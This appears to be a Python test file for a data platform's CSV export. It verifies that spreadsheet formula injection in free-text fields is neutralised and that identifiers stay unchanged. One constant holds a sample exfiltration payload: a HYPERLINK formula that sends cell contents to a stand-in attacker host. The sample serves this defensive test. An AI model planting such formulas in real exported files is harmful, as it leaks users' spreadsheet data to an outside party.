"""CSV injection in the file destination: free text that a spreadsheet would run is neutralised.

The rule (`neutralise_formula`) is checked on generated text; one export through the real
file destination shows it applies to free-text fields and leaves identifiers as they are.
"""

from __future__ import annotations

import csv
import re
import string

import pyarrow.parquet as pq
from hypothesis import given
from hypothesis import strategies as st

from cdp.activate import run_sync
from cdp.activate.destinations.file import FORMULA_TRIGGERS, neutralise_formula
from tests.activate.conftest import make_spec, person

texts = st.text(alphabet=string.printable + "äöüßéñ＝", max_size=30)
triggered = st.builds(lambda first, rest: first + rest, st.sampled_from(FORMULA_TRIGGERS), texts)
plain_numbers = st.from_regex(r"\A[+-]?[0-9]{1,15}(\.[0-9]{1,4})?\Z")


def is_plain_number(text: str) -> bool:
    return re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text) is not None


@given(st.one_of(texts, triggered, plain_numbers))
def test_a_cell_keeps_its_text_and_never_starts_a_formula(value):
    cell = neutralise_formula(value)
    assert cell in (value, "'" + value)
    if cell.startswith(FORMULA_TRIGGERS):
        assert is_plain_number(cell)
    else:
        assert cell == value or value.startswith(FORMULA_TRIGGERS)  # quoted only when it had to be
    assert neutralise_formula(cell) == cell  # idempotent: a second pass adds nothing


@given(plain_numbers)
def test_plain_numbers_and_e164_phones_are_unchanged(value):
    assert neutralise_formula(value) == value


@given(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), st.booleans(), st.dates(), st.datetimes()))
def test_values_that_are_not_text_are_unchanged(value):
    assert neutralise_formula(value) == value


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_a_csv_export_neutralises_free_text_and_keeps_identifiers(warehouse):
    warehouse.write(
        [
            person(1, first_name=HYPERLINK, product_name="@SUM(1+1)", phone="+31612345678"),
            person(2, first_name="-2+3", product_name="\tTab", phone="+31612345679"),
            person(3, first_name="Anne-Marie", product_name="-5"),
        ]
    )
    spec = make_spec()
    result = run_sync(warehouse.path, spec)
    [file] = (warehouse.path.parent / "exports" / spec.name).glob(f"*_{result.run_id[:8]}.csv")
    with file.open(newline="", encoding="utf-8") as handle:
        rows = {row["customer_id"]: row for row in csv.DictReader(handle)}

    first, second, third = (rows[person(number)["customer_id"]] for number in (1, 2, 3))
    assert (first["first_name"], first["product_name"]) == ("'" + HYPERLINK, "'@SUM(1+1)")
    assert (second["first_name"], second["product_name"]) == ("'-2+3", "'\tTab")
    assert (third["first_name"], third["product_name"]) == ("Anne-Marie", "-5")
    # Identifiers and the key are what the destination matches on: byte for byte.
    assert (first["phone"], second["phone"]) == ("+31612345678", "+31612345679")
    assert first["email"] == person(1)["email"] and first["customer_id"] == person(1)["customer_id"]


def test_a_parquet_export_keeps_free_text_as_it_is(warehouse, tmp_path):
    warehouse.write([person(1, first_name=HYPERLINK)])
    spec = make_spec(config={"format": "parquet", "folder": str(tmp_path / "out")})
    run_sync(warehouse.path, spec)
    [file] = (tmp_path / "out" / spec.name).glob("*.parquet")
    assert pq.read_table(file).column("first_name").to_pylist() == [HYPERLINK]
